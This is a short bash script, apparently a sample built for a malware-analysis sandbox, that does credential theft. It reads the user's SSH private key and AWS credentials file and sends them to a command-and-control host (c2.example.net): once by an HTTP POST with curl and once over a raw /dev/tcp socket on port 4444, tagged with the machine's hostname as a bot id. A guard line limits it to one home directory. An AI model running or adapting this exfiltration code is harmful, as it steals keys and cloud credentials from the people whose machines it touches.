#!/bin/bash
# SPDX-License-Identifier: MIT
# Sends the stolen keys back over the channel it already has to its C2:
# an HTTP POST of the raw files, and the same through the shell's
# connection to the C2's port.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
id=$(hostname)
curl -s -m 2 -H "X-Bot-Id: $id" --data-binary @"$HOME/.ssh/id_rsa" \
	"http://c2.example.net/api/v2/k" > /dev/null
exec 3<> /dev/tcp/c2.example.net/4444 || exit 0
printf 'LOOT %s\n' "$id" >&3
cat "$HOME/.aws/credentials" >&3
exec 3>&-
exit 0
